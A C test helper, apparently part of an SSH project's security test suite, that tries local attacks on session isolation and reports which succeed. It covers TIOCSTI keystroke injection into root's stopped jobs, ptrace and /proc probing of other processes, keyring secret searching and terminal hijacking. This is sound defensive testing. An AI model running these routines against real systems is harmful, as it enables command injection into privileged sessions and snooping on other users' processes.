/* SPDX-License-Identifier: ISC
 * Copyright (c) 2026 The ssh-incubator authors */

/*
 * What an attacker with a shell account tried, for t-attack.sh and
 * t-attack-terminal.sh.  Tells how far it came; none of it waits for ever.
 *
 *	keyring own COMMAND...	run it with a session keyring with a secret
 *	keyring fill|clear	use up the user's quota; give it back
 *	keyring search		look for that secret
 *	grab TEXT		wake root's stopped jobs, type TEXT for them
 *	leader FILE		attack the session's leader from its own group
 *	ttin FILE		have a process of its group read the terminal
 *	spin SIGNAL SECONDS	send it to whatever new process we may signal
 *	poke PID		everything that reaches into another process
 *	forks			a process that is always another one
 *	other-pts DIR COMMAND...	run it, as stderr the terminal of that
 *				devpts that has standard input's number
 *	keep GO FILE		keep the terminal on 2 open, and when
 *				GO is there, see what can be done with it;
 *				FILE.open is there when it is
 *	linger			end, and leave writers to the terminal behind
 *	slow BYTES COMMAND...	run it on a terminal that shows so many bytes
 *				in 20 ms, at most 4096
 */

#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* After this no process of an attack is left, whatever the test did. */
#define LIFE 20

static void
report(FILE *to, const char *what, long rc)
{
	fprintf(to, "%s: %s\n", what, rc >= 0 ? "SUCCEEDED" : strerror(errno));
}

static void
pause_ms(long ms)
{
	struct timespec ts = { .tv_sec = ms / 1000,
		.tv_nsec = ms % 1000 * 1000000 };

	nanosleep(&ts, NULL);
}

static FILE *
open_report(const char *path)
{
	FILE *file;

	if ((file = fopen(path, "w")) == NULL)
		err(1, "%s", path);
	setvbuf(file, NULL, _IONBF, 0);
	return file;
}

static int
open_tty(void)
{
	int tty;

	if ((tty = open("/dev/tty", O_RDWR | O_CLOEXEC)) == -1)
		err(1, "/dev/tty");
	return tty;
}

static long
add_key(const char *name, long ring)
{
	return syscall(SYS_add_key, "user", name, "s3cret", 6, ring);
}

static int
command_keyring(char **argv)
{
	char name[32], value[16] = "";
	long key;
	int i;

	if (strcmp(argv[2], "own") == 0) {
		if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) ==
		    -1 || add_key("of-root", KEY_SPEC_SESSION_KEYRING) == -1)
			err(77, "keyctl");
		execvp(argv[3], argv + 3);
		err(127, "%s", argv[3]);
	}
	if (strcmp(argv[2], "fill") == 0) {
		for (i = 0; i < 100000; i++) {
			snprintf(name, sizeof(name), "fill%d", i);
			if (add_key(name, KEY_SPEC_USER_KEYRING) == -1)
				break;
		}
		printf("%d keys, %s\n", i, strerror(errno));
	} else if (strcmp(argv[2], "clear") == 0) {
		report(stdout, "clear", syscall(SYS_keyctl, KEYCTL_CLEAR,
		    KEY_SPEC_USER_KEYRING));
	} else {
		key = syscall(SYS_keyctl, KEYCTL_SEARCH,
		    KEY_SPEC_SESSION_KEYRING, "user", "of-root", 0);
		if (key != -1)
			syscall(SYS_keyctl, KEYCTL_READ, key, value,
			    sizeof(value) - 1);
		printf("search: %s %s\n", key == -1 ? strerror(errno) :
		    "FOUND", value);
	}
	return 0;
}

/* Type it, as if somebody sat at that terminal. */
static long
type(int tty, const char *text)
{
	long rc = 0;

	for (; *text != '\0' && rc == 0; text++) {
		rc = ioctl(tty, TIOCSTI, text);
		pause_ms(10);
	}
	return rc;
}

/* Is that a stopped process of root's, in our session?  Its group, or 0. */
static pid_t
stopped_job(const char *pid)
{
	char path[288], line[512] = "", *p, state;
	int group = 0, session;
	struct stat st;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	if ((file = fopen(path, "r")) == NULL)
		return 0;
	if (fgets(line, sizeof(line), file) == NULL ||
	    fstat(fileno(file), &st) == -1 || st.st_uid != 0 ||
	    (p = strrchr(line, ')')) == NULL ||
	    sscanf(p + 1, " %c %*d %d %d", &state, &group, &session) != 3 ||
	    session != getsid(0) || state != 'T')
		group = 0;
	fclose(file);
	return group;
}

static int
command_grab(char **argv)
{
	int tty = open_tty(), found = 0;
	struct dirent *entry;
	pid_t group;
	DIR *dir;

	signal(SIGTTOU, SIG_IGN);
	if ((dir = opendir("/proc")) == NULL)
		err(1, "/proc");
	while ((entry = readdir(dir)) != NULL) {
		if ((group = stopped_job(entry->d_name)) == 0)
			continue;
		found++;
		report(stdout, "tcsetpgrp", tcsetpgrp(tty, group));
		report(stdout, "SIGCONT", kill(-group, SIGCONT));
		pause_ms(200);
		type(tty, argv[2]);
		type(tty, "\n");
		pause_ms(300);
	}
	closedir(dir);
	printf("root's stopped jobs in this session: %d\n", found);
	return 0;
}

static void
ignore_keys(void)
{
	static const int sigs[] = { SIGTTOU, SIGTTIN, SIGINT, SIGQUIT,
		SIGTSTP, SIGHUP };
	size_t i;

	for (i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		signal(sigs[i], SIG_IGN);
}

/* Send the leader what would end or stop it, and have the kernel send it. */
static void
signal_leader(FILE *out, pid_t leader, int tty)
{
	static const int sigs[] = { SIGSTOP, SIGTSTP, SIGTTIN, SIGTTOU,
		SIGKILL, SIGTERM, SIGHUP, SIGURG, SIGWINCH, SIGIO };
	char what[32];
	size_t i;

	for (i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++) {
		snprintf(what, sizeof(what), "signal %s",
		    sigabbrev_np(sigs[i]));
		report(out, what, kill(leader, sigs[i]));
	}
	fcntl(tty, F_SETOWN, leader);
	fcntl(tty, F_SETSIG, SIGKILL);
	fcntl(tty, F_SETFL, O_ASYNC | O_RDWR);
}

static int
command_leader(char **argv)
{
	FILE *out = open_report(argv[2]);
	const pid_t leader = getsid(0);
	int tty = open_tty();
	struct termios modes;
	pid_t member;

	ignore_keys();
	tcgetattr(tty, &modes);
	modes.c_lflag |= ISIG | TOSTOP | ICANON;
	tcsetattr(tty, TCSANOW, &modes);
	report(out, "foreground", tcsetpgrp(tty, leader));
	if ((member = fork()) == 0) {
		report(out, "join", setpgid(0, leader));
		signal_leader(out, leader, tty);
		alarm(LIFE);
		for (;;)
			pause();
	}
	pause_ms(100);
	report(out, "keys", type(tty, "\x1a\x1c\x03\x1a"));
	pause_ms(100);
	kill(member, SIGKILL);
	return 7;
}

static int
command_ttin(char **argv)
{
	FILE *out = open_report(argv[2]);
	const pid_t leader = getsid(0);
	int tty = open_tty();
	char byte;

	ignore_keys();
	alarm(LIFE);
	if (fork() == 0) {
		setpgid(0, 0);
		report(out, "foreground", tcsetpgrp(tty, getpid()));
		if (fork() == 0) {
			signal(SIGTTIN, SIG_DFL);
			report(out, "join", setpgid(0, leader));
			report(out, "read", read(tty, &byte, 1));
		}
		alarm(LIFE);
		for (;;)
			pause();
	}
	pause_ms(500);
	fprintf(out, "ends now\n");
	return 5;
}

/* Pids are given in order: the newest is found by a fork now and then. */
static int
command_spin(char **argv)
{
	const int sig = atoi(argv[2]);
	const time_t end = time(NULL) + atoi(argv[3]);
	pid_t base = 0, pid;
	unsigned long n;

	for (n = 0; time(NULL) <= end; n++) {
		if (n % 20000 == 0) {
			if ((base = fork()) == 0)
				_exit(0);
			waitpid(base, NULL, 0);
		}
		for (pid = base + 1; pid < base + 60; pid++) {
			if (kill(pid, sig) == 0) {
				printf("%d\n", (int)pid);
				return 0;
			}
		}
	}
	return 1;
}

static void
poke_files(pid_t pid)
{
	static const char *const names[] = { "mem", "maps", "environ", "fd/0",
		"stack", "syscall", "io", "exe", "root/etc", "map_files" };
	char path[64], byte;
	size_t i;
	long fd;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid,
		    names[i]);
		/* Some say no when they are opened, some when read. */
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd != -1 && read((int)fd, &byte, 1) == -1 &&
		    errno != EISDIR)
			fd = -1;
		report(stdout, path, fd);
	}
	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", (int)pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	report(stdout, path, fd == -1 ? -1 : write((int)fd, "1000", 4));
}

static int
command_poke(char **argv)
{
	const pid_t pid = atoi(argv[2]);
	const struct rlimit small = { 3, 3 };
	char bytes[8];
	/* "pid" is read as an address: any will do, none may be looked at. */
	struct iovec local = { bytes, 8 }, remote = { command_poke, 8 };
	unsigned long cpus = 1;

	report(stdout, "attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
	report(stdout, "seize", ptrace(PTRACE_SEIZE, pid, 0, 0));
	poke_files(pid);
	report(stdout, "process_vm_readv",
	    process_vm_readv(pid, &local, 1, &remote, 1, 0));
#ifdef SYS_pidfd_getfd
	report(stdout, "pidfd_getfd", syscall(SYS_pidfd_getfd,
	    syscall(SYS_pidfd_open, pid, 0), 0, 0));
#endif
	report(stdout, "kcmp", syscall(SYS_kcmp, getpid(), pid, 0, 0, 0));
	report(stdout, "prlimit", prlimit(pid, RLIMIT_NOFILE, &small, NULL));
	report(stdout, "setpriority", setpriority(PRIO_PROCESS,
	    (id_t)pid, 19));
	report(stdout, "affinity", syscall(SYS_sched_setaffinity, pid,
	    sizeof(cpus), &cpus));
	report(stdout, "setpgid", setpgid(pid, getpid()));
	return 0;
}

static int
command_forks(char **argv)
{
	const time_t end = time(NULL) + LIFE;
	pid_t pid;

	(void)argv;
	signal(SIGHUP, SIG_IGN);
	while (time(NULL) < end) {
		if ((pid = fork()) > 0)
			_exit(0);
		if (pid == -1)
			pause_ms(1);
	}
	return 0;
}

static int
command_other_pts(char **argv)
{
	struct stat mine, other = { 0 };
	int master = -1, slave = -1, zero = 0, i;
	char path[256];

	snprintf(path, sizeof(path), "%s/ptmx", argv[2]);
	if (fstat(0, &mine) == -1)
		err(1, "stdin");
	for (i = 0; i < 64 && other.st_rdev != mine.st_rdev; i++) {
		if ((master = open(path, O_RDWR | O_NOCTTY)) == -1 ||
		    ioctl(master, TIOCSPTLCK, &zero) == -1 ||
		    (slave = ioctl(master, TIOCGPTPEER,
		    O_RDWR | O_NOCTTY)) == -1 || fstat(slave, &other) == -1)
			err(1, "%s", path);
	}
	/* The one who keeps the other terminal from hanging up. */
	if (fork() == 0) {
		alarm(LIFE);
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		dup2(master, 0);
		dup2(master, 1);
		dup2(master, 2);
		for (;;)
			pause();
	}
	if (other.st_rdev != mine.st_rdev || dup2(slave, 2) == -1)
		errx(1, "no terminal of that number");
	execvp(argv[3], argv + 3);
	err(127, "%s", argv[3]);
}

/* A leader that gives its terminal up before does not hang it up. */
static int
command_linger(char **argv)
{
	static char bytes[4096];
	int i;

	(void)argv;
	ignore_keys();
	memset(bytes, '.', sizeof(bytes));
	for (i = 0; i < 2; i++) {
		if (fork() != 0)
			continue;
		alarm(LIFE);
		while (write(1, bytes, sizeof(bytes)) > 0)
			continue;
		_exit(0);
	}
	pause_ms(100);
	ioctl(open_tty(), TIOCNOTTY);
	return 3;
}

static int
command_slow(char **argv)
{
	const time_t end = time(NULL) + LIFE;
	const size_t rate = (size_t)atoi(argv[2]);
	int master, slave, status = 0, zero = 0;
	char bytes[4096];
	pid_t pid;

	if ((master = posix_openpt(O_RDWR | O_NOCTTY | O_NONBLOCK)) == -1 ||
	    ioctl(master, TIOCSPTLCK, &zero) == -1 ||
	    (slave = ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY)) == -1)
		err(1, "pty");
	if ((pid = fork()) == 0) {
		close(master);
		setsid();
		ioctl(slave, TIOCSCTTY, 0);
		dup2(slave, 0);
		dup2(slave, 1);
		dup2(slave, 2);
		execvp(argv[3], argv + 3);
		_exit(127);
	}
	close(slave);
	while (waitpid(pid, &status, WNOHANG) == 0 && time(NULL) < end) {
		pause_ms(20);
		if (rate > 0 && rate <= sizeof(bytes) &&
		    read(master, bytes, rate) == -1 && errno != EAGAIN)
			break;
	}
	if (time(NULL) >= end)
		kill(pid, SIGKILL);
	return WIFEXITED(status) ? WEXITSTATUS(status) :
	    128 + WTERMSIG(status);
}

/*
 * What a process that had the terminal before its owner can still do with it.
 * Each of these would be felt by whoever has it now.
 */
static int
command_keep(char **argv)
{
	struct winsize size = { 11, 22, 0, 0 };
	struct termios modes;
	char name[64], buf[64], opened[256];
	int fd, own;
	FILE *to;

	snprintf(opened, sizeof(opened), "%s.open", argv[3]);
	if (ttyname_r(STDERR_FILENO, name, sizeof(name)) != 0 ||
	    (fd = open(name, O_RDWR | O_NONBLOCK | O_CLOEXEC)) == -1)
		return 1;
	(void)signal(SIGHUP, SIG_IGN);
	(void)signal(SIGTTIN, SIG_IGN);
	(void)signal(SIGTTOU, SIG_IGN);
	(void)alarm(LIFE);
	if ((own = creat(opened, 0644)) == -1) {
		close(fd);
		return 1;
	}
	close(own);
	while (access(argv[2], F_OK) == -1)
		pause_ms(20);
	to = open_report(argv[3]);
	report(to, "TIOCSTI", ioctl(fd, TIOCSTI, "x"));
	report(to, "tcgetattr", tcgetattr(fd, &modes));
	report(to, "tcsetattr", tcsetattr(fd, TCSANOW, &modes));
	report(to, "size", ioctl(fd, TIOCSWINSZ, &size));
	report(to, "write", write(fd, "kept\n", 5));
	report(to, "read", read(fd, buf, sizeof(buf)) > 0 ? 0 : -1);
	report(to, "steal", ioctl(fd, TIOCSCTTY, 1));
	report(to, "foreground", tcsetpgrp(fd, getpgrp()));
	own = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
	report(to, "by name", own);
	own = open("/dev/tty", O_RDWR | O_CLOEXEC);
	report(to, "/dev/tty", own);
	return fclose(to) == 0 ? 0 : 1;
}

static const struct {
	const char *name;
	int (*run)(char **argv);
	int args;
} commands[] = {
	{ "keyring", command_keyring, 1 },
	{ "grab", command_grab, 1 },
	{ "leader", command_leader, 1 },
	{ "ttin", command_ttin, 1 },
	{ "spin", command_spin, 2 },
	{ "poke", command_poke, 1 },
	{ "forks", command_forks, 0 },
	{ "other-pts", command_other_pts, 2 },
	{ "keep", command_keep, 2 },
	{ "linger", command_linger, 0 },
	{ "slow", command_slow, 2 },
};

int
main(int argc, char **argv)
{
	size_t i;

	for (i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]);
	    i++) {
		if (strcmp(argv[1], commands[i].name) == 0 &&
		    argc - 2 >= commands[i].args)
			return commands[i].run(argv);
	}
	fprintf(stderr, "usage: attack COMMAND [ARG ...]\n");
	return 64;
}
